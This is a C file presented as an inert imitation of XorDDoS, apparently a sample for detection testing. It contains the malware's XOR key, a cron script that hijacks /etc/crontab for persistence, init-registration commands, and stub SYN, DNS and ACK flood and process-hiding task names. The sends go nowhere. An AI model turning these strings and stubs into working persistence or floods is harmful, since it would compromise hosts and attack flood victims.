/* Inert imitation of XorDDoS: its well-known key, module names, init script text and flood tasks. It writes and sends nothing. */
#include "inert.h"
static const char xorkeys[] = "BB2FA36AAA9541F0";
static const unsigned char remote[] = {<<xor|{{ip:xor}}:1522>>, 0x22, <<xor|aaa.{{label:xor}}.{{net:xor}}:1525>>, 0x22};
TABLE(texts, "/usr/lib/libudev.so", "/lib/libudev.so", "/etc/cron.hourly/gcc.sh", "#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n",
    "*/3 * * * * root /etc/cron.hourly/gcc.sh", "sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab && echo '%s' >> /etc/crontab", "/etc/init.d/%s", "chkconfig --add %s", "update-rc.d %s defaults", "/proc/rs_dev", "/var/run/gcc.pid",
    "cat resolv.conf", "netstat -antop", "ifconfig eth0", "route -n", "GET %s HTTP/1.1\r\n%sHost: %s\r\n%s", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.2; SV1; TencentTraveler ; .NET CLR 1.1.4322)", "md5=%s&denyip=%s&filename=%s&rmfile=%s")
TABLE(tasks, "add_task", "build_syn", "build_ack", "build_dns", "fix_syn", "fix_ack", "fix_dns", "syn_flood", "dns_flood", "ack_flood", "kill_process", "daemon_process", "hide_proc", "hidemod")
void encrypt_code(char *text, int size) { for (int i = 0; i < size; i++) text[i] ^= xorkeys[i % 16]; }
int build_syn(void *out) { struct tcphdr *t = out; t->syn = 1; return sendto(nowhere, out, 0, 0, 0, 0); }
int build_dns(void *out) { memcpy(out, "\x01\0\0\x01\0\0\0\0\0\0", 10); return sendto(nowhere, out, 0, 0, 0, 0); }
int main(int argc, char **argv) { INERT; char page[256] = {0}; encrypt_code(page, 16); tell(texts); tell(tasks); USE(remote); build_syn(page); build_dns(page); return 0; }
